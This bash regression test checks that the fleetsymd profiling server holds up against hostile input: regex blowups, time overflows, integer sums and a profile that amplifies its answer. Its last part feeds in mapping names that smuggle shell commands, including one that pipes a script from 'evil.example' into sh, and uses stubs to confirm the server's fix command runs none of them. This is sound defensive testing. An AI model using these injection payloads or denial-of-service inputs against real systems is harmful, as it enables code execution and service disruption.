#!/usr/bin/env bash
# Hostile requests against a real fleetsymd, end to end over HTTP (issue 13), each with the
# server's peak RSS (VmHWM) and wall time: selector regexes whose expansion blows up
# ('a{,5000}' took 2.7 s and 406 MB, '((a{0,20}){0,20}){0,20}' 5 s and 1.18 GB) answer 400
# while ordinary regexes still select; 'now+15200w' is 400, not a signed overflow; two
# INT64_MAX sample values never give a wrapped X-Fleetsym-Total; a ~200-byte profile of one
# stack of 1,023 copies of a location with 64 inline frames and 4 KB names (a 268 MB folded
# answer, 544 MB peak RSS before) answers a bounded, truncated flame graph; and the fix command
# of /api/v1/missing for a mapping named '/opt/app/svc;curl${IFS}-s${IFS}http://evil.example/x|sh;#'
# (or '--server=...') run by bash gives fleetsym-upload that name as one file argument and
# runs nothing else.
set -uo pipefail
. "$(dirname "$0")/lib/service.sh"
need dash

cd "$T"
export TESTS
start_fleetsymd hostile --data-dir "$T/data" --debug-dir "$T/empty" --request-timeout 2s
mkdir -p empty
hwm() { awk '/^VmHWM:/ {print int($2 / 1024)}' "/proc/$FSD_PID/status"; }
# timed NAME URL: status code into $code, seconds into $secs, body in $T/body
timed() {
	local out
	out=$(curl -s -o "$T/body" -D "$T/headers" -w '%{http_code} %{time_total}' --max-time 60 "$2")
	code=${out% *} secs=${out#* }
}
enc() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$1"; }
ingest() { # ingest FILE LABELS: status code
	curl -s -o "$T/body" -w '%{http_code}' --data-binary "@$1" "$URL/api/v1/ingest?$2"
}
base_mb=$(hwm)
ok "fleetsymd started, peak RSS $base_mb MB"

echo "== selector regexes"
python3 "$TESTS/lib/mkpprof.py" /dev/stdin plain.pb.gz <<JSON
{"type": ["cpu", "nanoseconds"], "period": 10000000, "time_ns": $(date +%s)000000000,
 "mappings": [{"build_id": "aaaa0000000000000000000000000000000000aa", "filename": "/opt/app/fx"}],
 "samples": [{"frames": [[0, 4096], [0, 8192]], "value": 7}]}
JSON
[ "$(ingest plain.pb.gz service=hostname-a)" = 200 ] || fail "plain ingest: $(cat body)"
for re in 'a{,5000}' '((a{0,20}){0,20}){0,20}' '(((((((((((((((((((((((((((((((((a)))))))))))))))))))))))))))))))))' 'a{0,100}{0,100}'; do
	timed "$re" "$URL/api/v1/series?query=$(enc "{service=~\"$re\"}")"
	if [ "$code" = 400 ] && grep -q '"error"' body; then
		ok "regex '$re': 400 in ${secs} s: $(head -c 160 body)"
	else
		fail "regex '$re': status $code in ${secs} s: $(head -c 200 body)"
	fi
done
for re in 'host.*' 'hostname-[a-c]' '(foo|hostname-a)' 'h.{2,20}-a'; do
	timed "$re" "$URL/api/v1/series?query=$(enc "{service=~\"$re\"}")"
	if [ "$code" = 200 ] && grep -q 'hostname-a' body; then
		ok "regex '$re': 200, selects the series"
	else
		fail "regex '$re': status $code: $(head -c 200 body)"
	fi
done
mb=$(hwm)
[ "$mb" -lt $((base_mb + 100)) ] && ok "peak RSS after the regexes: $mb MB" ||
	fail "peak RSS after the regexes: $mb MB (started at $base_mb MB)"

echo "== arithmetic on outside values"
for t in 'now+15200w' 'now-15300w' 'now+9223372036854775807s'; do
	timed "$t" "$URL/api/v1/series?query=%7B%7D&from=$(enc "$t")&to=now"
	[ "$code" = 400 ] && ok "from=$t: 400 $(head -c 120 body)" ||
		fail "from=$t: status $code: $(head -c 200 body)"
done
now=$(date +%s)000000000
for i in 1 2; do
	python3 "$TESTS/lib/mkpprof.py" /dev/stdin big$i.pb.gz <<JSON
{"type": ["cpu", "nanoseconds"], "period": 10000000, "time_ns": $now,
 "mappings": [{"build_id": "bbbb0000000000000000000000000000000000bb", "filename": "/opt/app/big"}],
 "samples": [{"frames": [[0, $((4096 * i))]], "value": 9223372036854775807}]}
JSON
	c=$(ingest big$i.pb.gz service=big)
	[ "$c" = 200 ] || fail "INT64_MAX profile $i: ingest $c $(head -c 200 body)"
done
timed sum "$URL/api/v1/query?query=$(enc '{service="big"}')&format=folded&from=now-1h&to=now%2B1h"
total=$(sed -n 's/^X-Fleetsym-Total: *\([-0-9]*\).*/\1/Ip' headers | tr -d '\r')
if [ "$code" = 422 ] && [ -z "$total" ]; then
	ok "two INT64_MAX values: 422 $(head -c 160 body)"
elif [ "$code" = 200 ] && [ "${total:--1}" -ge 9223372036854775807 ] 2>/dev/null; then
	ok "two INT64_MAX values: 200, X-Fleetsym-Total $total (saturated)"
else
	fail "two INT64_MAX values: status $code, X-Fleetsym-Total '$total': $(head -c 200 body)"
fi

echo "== answer amplification"
python3 - amp.pb.gz "$now" <<'PY'
import gzip, sys
sys.path.insert(0, __import__("os").environ["TESTS"] + "/lib")
from mkpprof import f_bytes, f_int, f_packed
name = "f" * 4096
strs = ["", "cpu", "nanoseconds", "/opt/app/amp", "cccc0000000000000000000000000000000000cc"]
strs += [name]
out = f_bytes(1, f_int(1, 1) + f_int(2, 2))
out += f_bytes(2, f_packed(1, [1] * 1023) + f_packed(2, [1]))
out += f_bytes(3, f_int(1, 1) + f_int(3, 1 << 20) + f_int(5, 3) + f_int(6, 4))
out += f_bytes(4, f_int(1, 1) + f_int(2, 1) + f_int(3, 4096) +
               b"".join(f_bytes(4, f_int(1, 1) + f_int(2, i + 1)) for i in range(64)))
out += f_bytes(5, f_int(1, 1) + f_int(2, 5))
out += b"".join(f_bytes(6, s.encode()) for s in strs)
out += f_int(9, int(sys.argv[2])) + f_bytes(11, f_int(1, 1) + f_int(2, 2)) + f_int(12, 10000000)
open(sys.argv[1], "wb").write(gzip.compress(out, 9))
PY
c=$(ingest amp.pb.gz service=amp)
[ "$c" = 200 ] && ok "amplifying profile ($(stat -c %s amp.pb.gz) bytes gzip'd) ingested" ||
	fail "amplifying profile: ingest $c $(head -c 200 body)"
for fmt in folded json top pprof; do
	timed "$fmt" "$URL/api/v1/query?query=$(enc '{service="amp"}')&format=$fmt&from=now-1h&to=now%2B1h"
	size=$(stat -c %s body)
	mb=$(hwm)
	if { [ "$code" = 200 ] || [ "$code" = 413 ]; } && [ "$size" -lt $((64 << 20)) ] &&
		[ "$mb" -lt $((base_mb + 200)) ]; then
		ok "format=$fmt: $code, $size bytes in $secs s, peak RSS $mb MB"
	else
		fail "format=$fmt: $code, $size bytes in $secs s, peak RSS $mb MB (started at $base_mb MB)"
	fi
	[ "$fmt" = folded ] && [ "$code" = 200 ] && {
		frames=$(head -1 body | awk '{sub(/ [0-9]+$/, ""); print gsub(/;/, ";") + 1}')
		grep -q 'truncated' body && [ "$frames" -le 2100 ] &&
			ok "folded: the stack is cut to $frames frames under a truncation marker" ||
			fail "folded: $frames frames, marker: $(grep -c truncated body)"
	}
done

echo "== the fix command of /api/v1/missing"
mkdir -p stub
cat >stub/fleetsym-upload <<'SH'
#!/bin/sh
printf '%s\n' "$@" >"$ARGV_OUT"
SH
for c in curl sh wget; do printf '#!/bin/sh\ntouch "%s/RAN-%s"\n' "$T" "$c" >"stub/$c"; done
chmod +x stub/*
i=0
for evil in '/opt/app/svc;curl${IFS}-s${IFS}http://evil.example/x|sh;#' \
	"/opt/app/a'b\$(touch $T/RAN-subst)\`touch $T/RAN-bq\`" '--server=http://evil.example' \
	'=curl'; do
	i=$((i + 1))
	bid=$(printf 'dd%02d%036d' "$i" 0)
	EVIL="$evil" python3 - ev$i.pb.gz "$now" "$bid" <<'PY'
import os, sys
sys.path.insert(0, os.environ["TESTS"] + "/lib")
import mkpprof
mkpprof.write({"type": ["cpu", "nanoseconds"], "period": 10000000, "time_ns": int(sys.argv[2]),
               "mappings": [{"build_id": sys.argv[3], "filename": os.environ["EVIL"]}],
               "samples": [{"frames": [[0, 4096]], "value": 5}]}, sys.argv[1])
PY
	c=$(ingest ev$i.pb.gz service=ev$i)
	[ "$c" = 200 ] || { fail "evil name $i: ingest $c $(head -c 200 body)"; continue; }
	timed missing "$URL/api/v1/missing?query=$(enc "{service=\"ev$i\"}")&from=now-1h&to=now%2B1h"
	fix=$(python3 -c 'import json, sys
m = [x for x in json.load(open(sys.argv[1]))["missing"] if x["build_id"] == sys.argv[2]]
print(m[0]["fix"] if m else "")' body "$bid")
	[ -n "$fix" ] || { fail "evil name $i: no fix command: $(head -c 300 body)"; continue; }
	bash -n -c "$fix" || fail "evil name $i: bash -n rejects: $fix"
	rm -f argv RAN-*
	(cd "$T" && ARGV_OUT="$T/argv" PATH="$T/stub:$PATH" "$BASH" -c "$fix" </dev/null >/dev/null 2>&1)
	mapfile -t argv <argv 2>/dev/null || argv=()
	ran=$(ls RAN-* 2>/dev/null)
	if [ -z "$ran" ] && [ "${argv[-1]:-}" = "$evil" ] && [ "${argv[0]:-}" = --server ] &&
		[ "${argv[1]:-}" = "$URL" ] && { [ ${#argv[@]} = 3 ] || [ "${argv[2]}" = -- ]; } &&
		{ [ "${evil#-}" = "$evil" ] || [ "${argv[2]}" = -- ]; }; then
		ok "evil name $i: $fix -> ${#argv[@]} arguments, the name last and whole, nothing ran"
	else
		fail "evil name $i: $fix -> argv (${#argv[@]}): ${argv[*]:-}; ran: $ran"
	fi
	# the same in POSIX sh, and the real fleetsym-upload takes the name as a file, not an option
	rm -f argv RAN-*
	(cd "$T" && ARGV_OUT="$T/argv" PATH="$T/stub:$PATH" dash -c "$fix" </dev/null >/dev/null 2>&1)
	[ "$(tail -n 1 argv 2>/dev/null)" = "$evil" ] && [ -z "$(ls RAN-* 2>/dev/null)" ] ||
		fail "evil name $i: dash: $(cat argv 2>/dev/null); ran: $(ls RAN-* 2>/dev/null)"
	(cd "$T" && PATH="$BUILD/bin:$T/stub:$PATH" "$BASH" -c "$fix" </dev/null >upload.out 2>&1)
	grep -qF -- "failed    $evil: No such file" upload.out && [ -z "$(ls RAN-* 2>/dev/null)" ] &&
		ok "evil name $i: fleetsym-upload itself: $(grep -F -- "failed    " upload.out | head -c 160)" ||
		fail "evil name $i: fleetsym-upload itself: $(head -c 300 upload.out); ran: $(ls RAN-* 2>/dev/null)"
	# zsh (not installed here) turns a bare '=curl' into curl's path: such a word is quoted
	q=" '$evil'"
	case "$evil" in =*) [[ "$fix" == *"$q" ]] || fail "evil name $i: '$evil' bare in: $fix" ;; esac
done
mb=$(hwm)
ok "peak RSS at the end: $mb MB"
grep -q 'runtime error\|AddressSanitizer' hostile.log && fail "sanitizer report in the log"
stop_pid "$FSD_PID" || fail "fleetsymd exit status"
finish
